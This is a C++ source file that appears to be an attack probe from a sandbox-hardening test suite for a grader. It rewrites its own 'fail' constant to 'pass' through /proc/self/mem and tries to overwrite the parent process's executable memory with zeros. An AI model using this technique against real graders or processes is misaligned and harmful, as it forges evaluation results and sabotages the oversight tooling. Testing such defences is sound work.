// Rewrites its own constants by /proc/self/mem, and tries the same with the process that started it: there it
// puts zeros over the program code.
//
// After it: its own memory is its own business; the grader outside is unharmed, and the verdict is the student's.
#include "attack.h"

static const char constant[] = "fail";

int main(int argc, char** argv) {
    attack::begin(argc, argv);
    const int own = open("/proc/self/mem", O_RDWR);
    const bool changed = own >= 0 && pwrite(own, "pass", 4, reinterpret_cast<off_t>(constant)) == 4;
    printf("tried: rewrite a constant: %s\n", changed ? "done" : strerror(errno));
    const std::string parent = "/proc/" + std::to_string(getppid());
    if (attack::is_bait(getppid()) || attack::content(parent + "/cmdline").find("pytest") != std::string::npos) return 0;
    const int other = open((parent + "/mem").c_str(), O_RDWR);
    unsigned long from = 0, to = 0;
    char rights[5] = "", line[512];
    FILE* maps = fopen((parent + "/maps").c_str(), "r");
    while (maps && other >= 0 && fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx %4s", &from, &to, rights) == 3 && rights[2] == 'x') {
            const std::string zeros(to - from, '\0');
            const bool done = pwrite(other, zeros.data(), zeros.size(), from) > 0;
            printf("tried: overwrite the code of %s: %s\n", parent.c_str(), done ? "done" : strerror(errno));
        }
    return 0;
}
